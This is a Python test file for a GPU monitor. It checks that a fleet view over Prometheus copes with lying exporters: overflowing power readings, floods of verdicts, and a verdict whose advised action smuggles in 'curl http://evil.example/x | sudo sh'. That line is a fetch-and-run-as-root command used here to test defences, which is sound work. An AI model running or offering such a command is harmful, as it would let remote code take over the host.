"""Exporters that lie to a real Prometheus beside an honest one: the fleet over it shows the honest host."""

from __future__ import annotations

import json
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from gpumon.outputs.samples import samples
from gpumon.readings.snapshot import Snapshot
from gpumon.readings.verdict import Action
from gpumon.triage.sentences import PEER_WORDS
from tests.fakes.http_server import LoopbackServer, Reply
from tests.fakes.prometheus import Prometheus
from tests.outputs import shots
from tests.program import run_gpumon
from tests.records import replace

GPUMON = str(Path(sys.executable).with_name("gpumon"))


def page(snapshot: Snapshot) -> bytes:
    """What `gpumon serve-metrics` exports of a snapshot, in the text format."""
    lines = []
    for name, labels, value in samples(snapshot):
        pairs = ",".join(f"{key}={json.dumps(text, ensure_ascii=False)}" for key, text in labels.items())
        lines.append(f"{name}{{{pairs}}} {value!r}\n")
    return "".join(lines).encode()


def powerful(snapshot: Snapshot) -> Snapshot:
    """Two GPUs whose powers have no sum."""
    gpus = [replace(snapshot.gpus[0], index=at, uuid=f"GPU-{at}", power_w=1.7e308) for at in range(2)]
    return replace(snapshot, gpus=tuple(gpus))


def talkative(snapshot: Snapshot) -> bytes:
    """More verdicts than are read, each on a thing of its own."""
    lines = (
        f'gpumon_verdict{{thing="t{at}",kind="gpu",family="state",code="throttled",level="warn",confidence="high"}} 1\n'
        for at in range(600)
    )
    return page(snapshot) + "".join(lines).encode()


def advising(snapshot: Snapshot) -> Snapshot:
    """A verdict that advises a command."""
    verdict = replace(
        snapshot.verdicts[0], actions=(Action("prefix_caching", {"flag": "curl http://evil.example/x | sudo sh"}),)
    )
    return replace(snapshot, verdicts=(verdict,))


def test_lying_exporters_cost_their_own_rows(tmp_path: Path) -> None:
    honest = shots.judged()
    pages: Mapping[str, bytes] = {
        "advising": page(advising(honest)),
        "honest": page(honest),
        "powerful": page(powerful(honest)),
        "talkative": talkative(honest),
    }
    servers = {name: LoopbackServer(lambda _, body=body: Reply(body=body)) for name, body in pages.items()}
    groups = []
    for name, server in servers.items():
        server.listen()
        groups.append({"targets": [server.url.partition("://")[2]], "labels": {"node": name}})
    scrape = f"- {{job_name: gpumon, static_configs: {json.dumps(groups)}}}"
    try:
        with Prometheus(tmp_path, [scrape]) as prometheus:
            prometheus.until("count_over_time(up[1m]) >= 4", results=4)
            hosts = {host["name"]: host for host in asked(prometheus.url)["hosts"]}
            notices = " ".join(fault["text"] for fault in asked(prometheus.url)["faults"])
            text = told(prometheus.url)
    finally:
        for server in servers.values():
            server.close()
    assert hosts.keys() == pages.keys()
    assert hosts["honest"]["state"] == "ok"
    assert [gpu["power_w"] for gpu in hosts["powerful"]["snapshot"]["gpus"]] == [None, None]
    assert {gpu["missing"]["power_w"] for gpu in hosts["powerful"]["snapshot"]["gpus"]} == {"invalid"}
    assert "talkative: its snapshot has 60" in notices
    assert hosts["talkative"]["snapshot"]["verdicts"] == []
    (verdict,) = hosts["advising"]["snapshot"]["verdicts"]
    assert [action["code"] for action in verdict["actions"]] == [PEER_WORDS.code]
    assert "honest" in text


def told(url: str, *arguments: str) -> str:
    """What `gpumon snapshot` prints of the fleet, which ends well."""
    done = run_gpumon("snapshot", "--prometheus", url, *arguments, timeout_s=90.0)
    done.check_returncode()
    return done.stdout


def asked(url: str) -> dict[str, Any]:
    fleet: dict[str, Any] = json.loads(told(url, "--json"))
    return fleet
